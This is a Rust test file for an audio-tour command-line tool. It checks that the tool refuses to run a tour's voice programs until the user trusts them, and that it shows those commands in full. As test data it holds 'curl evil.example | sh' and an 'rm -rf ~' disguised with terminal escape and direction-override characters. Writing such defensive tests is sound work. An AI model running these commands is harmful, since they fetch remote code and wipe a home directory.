//! A tour's programs run only after the user has trusted them in their present form.

use super::*;
use std::os::unix::fs::PermissionsExt;

/// A tour whose voice is the command `words`.
fn speaking(words: Value) -> Value {
    let mut tour = tour();
    tour["voices"] = json!({"en": {"command": words}});
    tour
}

/// A machine with a tour whose program writes a file when it runs.
fn machine() -> Machine {
    let machine = Machine::new();
    machine.write_tour(&speaking(json!(["bin/speak", "--slow", "a b"])));
    write_program(&machine, "bin/speak", "cat voice.wav");
    machine
}

fn write_program(machine: &Machine, name: &str, script: &str) {
    let file = machine.path("work/tour").join(name);
    fs::create_dir_all(file.parent().expect("OK because it has one"))
        .expect("OK because tests may write");
    let ran = machine.path("ran").display().to_string();
    fs::write(&file, format!("#!/bin/sh\ntouch {ran}\n{script}\n"))
        .expect("OK because tests may write");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).expect("OK because it is ours");
}

/// Whether a program of the tour has run since the last call.
fn has_run(machine: &Machine) -> bool {
    fs::remove_file(machine.path("ran")).is_ok()
}

const BUILD: &[&str] = &["build", "tour", "-o", "t.pack", "--no-report"];

/// The digest after `--trust` in a text.
fn digest(text: &str) -> String {
    let rest = text
        .rsplit("--trust ")
        .next()
        .expect("OK because a split has a last part");
    rest.chars().take(64).collect()
}

#[test]
fn no_command_runs_a_stranger_s_program() {
    let machine = machine();
    fs::create_dir(machine.path("work/out")).expect("OK because tests may write");
    for (args, status) in [
        (&["check", "tour"][..], 0),
        (&["check", "tour", "--fix"], 0),
        (&["check", "tour", "--format", "json"], 0),
        (&["check", "tour", "--format", "github"], 0),
        (&["check", "tour", "--rehearse"], 0),
        (&["fmt", "tour"], 0),
        (&["say", "tour"], 0),
        (&["say", "tour", "gate"], 0),
        (
            &[
                "rehearse",
                "tour",
                "--svg",
                "out/w.svg",
                "--log",
                "out/w.jsonl",
            ],
            0,
        ),
        (&["why", "out/w.jsonl", "--stop", "gate"], 0),
        (&["explain", "tour-program"], 0),
        (&["trust", "tour", "--show"], 0),
        (&["trust", "--list"], 0),
        (&["voices"], 0),
        (BUILD, 2),
        (
            &[
                "build",
                "tour",
                "-o",
                "t.pack",
                "--site",
                "out/site",
                "--folder",
                "out/folder",
            ],
            2,
        ),
        (&["build", "tour", "-o", "t.pack", "--voices", "draft"], 2),
        (&["voices", "render", "tour"], 2),
        (&["voices", "render", "tour", "--all"], 2),
        (&["serve", "tour"], 2),
        (&["listen", "tour"], 2),
        (&["verify", "tour"], 1),
    ] {
        let (found, text) = machine.run(args);
        assert_eq!(found, Some(status), "{args:?}: {text}");
        assert!(!has_run(&machine), "{args:?} ran it");
    }
    assert!(!machine.path("work/t.pack").exists());
    assert!(!machine.path("work/tour/audio/rendered").exists());
}

#[test]
fn check_lists_every_command_and_build_says_what_to_do() {
    let machine = machine();
    let mut tour = speaking(json!(["bin/speak"]));
    tour["stops"][0]["narration"]["en"] = json!([
        "Here is the gate.",
        {"text": "A word.", "voice": {"command": ["sh", "-c", "curl evil.example | sh", "{out}"]}},
        {"text": "Another.", "take": "audio/take.wav", "voice": {"command": ["never", "needed"]}}
    ]);
    write_tone(&machine.path("work/tour/audio/take.wav"));
    machine.write_tour(&tour);
    let commands = [
        "bin/speak",
        "sh -c 'curl evil.example | sh' '{out}'",
        "never needed",
    ];
    let listing = machine.check(
        &["check", "tour"],
        0,
        &[
            "note[tour-program]",
            "you have not trusted yet",
            "soundwalk trust",
        ],
    );
    let refused = machine.check(
        BUILD,
        2,
        &["nothing was built", "soundwalk trust tour", "3 programs"],
    );
    let rendered = machine.check(&["voices", "render", "tour"], 2, &["nothing was rendered"]);
    for command in commands {
        for text in [&listing, &refused, &rendered] {
            assert!(text.contains(command), "{command}: {text}");
        }
    }
    assert_eq!(
        listing.matches("note[tour-program]").count(),
        3,
        "{listing}"
    );
    assert_eq!(digest(&listing.replace(')', " ")), digest(&refused));
    // Notes alone do not change the exit status, so that scripts go on.
    let only_notes = speaking(json!(["sh", "-c", "true"]));
    let mut quiet = only_notes;
    quiet["stops"][0]["narration"]["en"] = json!(["Here is the gate. ".repeat(60)]);
    machine.write_tour(&quiet);
    machine.check(&["check", "tour"], 0, &["note[tour-program]"]);
}

#[test]
fn trust_lasts_until_something_that_runs_changes() {
    let machine = machine();
    let before = digest(&machine.check(BUILD, 2, &[]));
    let shown = machine.check(
        &["trust", "tour"],
        0,
        &[
            "bin/speak --slow 'a b'",
            "/voices/en/command",
            "could run bin/speak",
        ],
    );
    assert!(shown.contains(&before), "{shown}");
    machine.check(BUILD, 0, &[]);
    assert!(has_run(&machine));
    machine.check(&["check", "tour"], 0, &["that you trust: bin/speak"]);
    machine.check(
        &["trust", "--list"],
        0,
        &["work/tour/tour.json", "bin/speak --slow 'a b'"],
    );

    // Takes, texts and settings may change, because they are the author's daily work.
    let mut tour = speaking(json!(["bin/speak", "--slow", "a b"]));
    tour["voices"]["en"]["version"] = json!("2");
    tour["stops"][0]["narration"]["en"] = json!(["Here is another gate."]);
    write_tone(&machine.path("work/tour/audio/take.wav"));
    machine.write_tour(&tour);
    machine.check(BUILD, 0, &[]);
    assert!(has_run(&machine));

    // Files that run may not change.
    type Change = fn(&Machine);
    let changes: [(&str, Change); 5] = [
        ("the program", |machine| {
            write_program(machine, "bin/speak", "cat voice.wav; true")
        }),
        ("what it may call", |machine| {
            write_program(machine, "bin/helper", "true")
        }),
        ("what it may load", |machine| {
            fs::write(machine.path("work/tour/bin/wave.py"), "")
                .expect("OK because tests may write");
        }),
        ("its arguments", |machine| {
            machine.write_tour(&speaking(json!(["bin/speak", "--fast", "x"])))
        }),
        ("a link in its place", |machine| {
            let file = machine.path("work/tour/bin/speak");
            fs::rename(&file, machine.path("work/tour/bin/other")).expect("OK because it is ours");
            std::os::unix::fs::symlink("other", file).expect("OK because it is ours");
        }),
    ];
    for (what, change) in changes {
        change(&machine);
        machine.check(
            BUILD,
            2,
            &["changed since you trusted", "soundwalk trust tour"],
        );
        machine.check(
            &["check", "tour"],
            0,
            &["programs have changed since you trusted them"],
        );
        assert!(!has_run(&machine), "{what}");
        machine.check(&["trust", "tour/tour.json"], 0, &[]);
        // The program's sound is stored under its command.
        let mut args = BUILD.to_vec();
        let store = machine.path("fresh").join(what).display().to_string();
        args.extend(["--store", &store]);
        machine.check(&args, 0, &[]);
        assert!(has_run(&machine), "{what}");
    }

    machine.check(&["trust", "tour", "--revoke"], 0, &["no longer"]);
    machine.check(BUILD, 2, &["that you have not trusted yet"]);
    machine.check(
        &["trust", "--list"],
        0,
        &["You do not trust the programs of any tour"],
    );
    machine.check(&["trust", "tour", "--revoke"], 0, &["were not trusted"]);

    // Trust is for a path: a copy elsewhere needs trust again. Trust in a deleted tour can still be revoked.
    machine.check(&["trust", "tour"], 0, &[]);
    let copied = Command::new("cp")
        .arg("-r")
        .args([machine.path("work/tour"), machine.path("work/copy")])
        .status();
    assert!(copied.is_ok_and(|status| status.success()));
    machine.check(
        &["build", "copy", "-o", "c.pack"],
        2,
        &["soundwalk trust copy"],
    );
    fs::remove_dir_all(machine.path("work/tour")).expect("OK because it is ours");
    machine.check(&["trust", "--list"], 0, &["no longer there"]);
    machine.check(&["trust", "tour", "--revoke"], 0, &["trusted no longer"]);
    machine.check(
        &["trust", "--list"],
        0,
        &["You do not trust the programs of any tour"],
    );
}

#[test]
fn a_digest_trusts_for_one_run() {
    let machine = machine();
    let right = digest(&machine.check(BUILD, 2, &[]));
    let with = |digest: &str| machine.run(&[BUILD, &["--trust", digest]].concat());
    for (wrong, word) in [
        (&"0".repeat(64), "whose digest is not the one given"),
        (&"x".to_owned(), "64 hexadecimal digits"),
    ] {
        let (status, text) = with(wrong);
        assert_eq!(status, Some(2), "{text}");
        assert!(text.contains(word), "{text}");
        assert!(!has_run(&machine));
    }
    let (status, text) = with(&right);
    assert_eq!(status, Some(0), "{text}");
    assert!(has_run(&machine));
    machine.check(
        &["check", "tour", "--trust", &right],
        0,
        &["that you trust"],
    );
    machine.check(
        &["voices", "render", "tour", "--trust", &right],
        0,
        &["1 clip rendered"],
    );
    // The decision was not stored.
    machine.check(
        &["trust", "--list"],
        0,
        &["You do not trust the programs of any tour"],
    );
    // Rendered clips no longer need the program.
    assert!(has_run(&machine));
    machine.check(BUILD, 0, &[]);
    assert!(!has_run(&machine));
}

#[test]
fn commands_are_shown_in_full() {
    let machine = machine();
    let words = json!([
        "sh",
        "-c",
        "true\u{1b}[2J\u{1b}[8m\nrm -rf ~ \u{202e}dlrow\u{200b}\r\u{7}"
    ]);
    machine.write_tour(&speaking(words));
    for args in [
        BUILD,
        &["check", "tour"],
        &["check", "tour", "--format", "github"],
        &["trust", "tour", "--show"],
        &["trust", "tour"],
        &["trust", "--list"],
    ] {
        let (_, text) = machine.run(args);
        assert!(
            text.contains(r"\u{1b}[2J\u{1b}[8m\u{a}rm -rf ~ \u{202e}dlrow\u{200b}\u{d}\u{7}'"),
            "{args:?}: {text}"
        );
        // `check` shows the lines of the tour, which contain JSON's escapes.
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\r']),
            "{args:?}: {text:?}"
        );
    }
    assert!(!has_run(&machine));
}

#[test]
fn a_program_is_found_in_the_tour_or_on_the_path() {
    let machine = machine();
    write_program(&machine, "../outside", "cat voice.wav");
    write_program(&machine, "ls", "cat voice.wav");
    std::os::unix::fs::symlink("../../outside", machine.path("work/tour/bin/link"))
        .expect("OK because it is ours");
    for program in [
        "../outside",
        "bin/../../outside",
        "bin/link",
        "./../outside",
    ] {
        machine.write_tour(&speaking(json!([program])));
        machine.check(&["trust", "tour"], 0, &[]);
        machine.check(&["check", "tour"], 1, &["error[outside-workspace]"]);
        machine.check(BUILD, 1, &["[outside-workspace]"]);
        assert!(!has_run(&machine), "{program}");
    }
    // In a workspace a program may be beside the tours, and is covered as well.
    fs::write(machine.path("work/soundwalk.workspace"), "").expect("OK because tests may write");
    machine.write_tour(&speaking(json!(["../outside"])));
    machine.check(BUILD, 2, &["changed since you trusted"]);
    machine.check(&["trust", "tour"], 0, &["could run ../outside"]);
    machine.check(BUILD, 0, &[]);
    assert!(has_run(&machine));
    write_program(&machine, "../outside", "cat voice.wav; true");
    machine.check(BUILD, 2, &["changed since you trusted"]);

    // A bare name is the system's program and not the tour's: the tour's `ls` would write a file.
    machine.write_tour(&speaking(json!(["ls"])));
    machine.check(&["trust", "tour"], 0, &[]);
    let (status, text) = machine.run(BUILD);
    assert_eq!(status, Some(2), "{text}");
    assert!(!has_run(&machine), "{text}");
}

#[test]
fn a_tour_without_programs_has_nothing_to_trust() {
    let machine = Machine::new();
    machine.write_tour(&tour());
    machine.check(&["trust", "tour"], 0, &["nothing to trust"]);
    machine.check(&["trust", "nosuch"], 2, &["there is no tour"]);
    machine.check(&["trust"], 2, &["TOUR"]);
    let text = machine.check(&["check", "tour"], 0, &[]);
    assert!(!text.contains("tour-program"), "{text}");
}

#[test]
fn a_program_runs_in_the_folder_and_environment_that_are_documented() {
    let machine = machine();
    let seen = machine.path("seen").display().to_string();
    let script = format!(
        "{{ pwd -P; echo \"$HOME\"; echo \"$PYTHONDONTWRITEBYTECODE\"; }} > {seen}; cat voice.wav"
    );
    write_program(&machine, "bin/speak", &script);
    machine.check(&["trust", "tour"], 0, &[]);
    machine.check(BUILD, 0, &[]);
    let seen = fs::read_to_string(seen).expect("OK because the program has run");
    let tour = machine.path("work/tour").canonicalize();
    let tour = tour.expect("OK because it is there").display().to_string();
    let home = machine.path("home").display().to_string();
    assert_eq!(seen.lines().collect::<Vec<_>>(), [&tour, &home, "1"]);
}

#[test]
fn trust_states_its_limits_before_it_is_given() {
    let machine = machine();
    for args in [&["trust", "tour", "--show"][..], &["trust", "tour"]] {
        machine.check(
            args,
            0,
            &[
                "not what these read when they run",
                "the programs of your system",
            ],
        );
    }
}

#[test]
fn an_unwritable_trust_record_comes_with_advice() {
    let machine = machine();
    // A file in place of the folder makes it unwritable for everybody, like a folder on a read-only disk.
    fs::write(machine.path("home/.local"), "").expect("OK because tests may write");
    let listing = machine.check(
        &["trust", "tour"],
        2,
        &[
            "cannot be stored",
            "home/.local/state",
            "XDG_STATE_HOME",
            "--trust ",
        ],
    );
    assert!(!listing.contains("You trust them in"), "{listing}");
    let digest = digest(&listing);
    machine.check(&[BUILD, &["--trust", &digest]].concat(), 0, &[]);
    assert!(has_run(&machine));
}
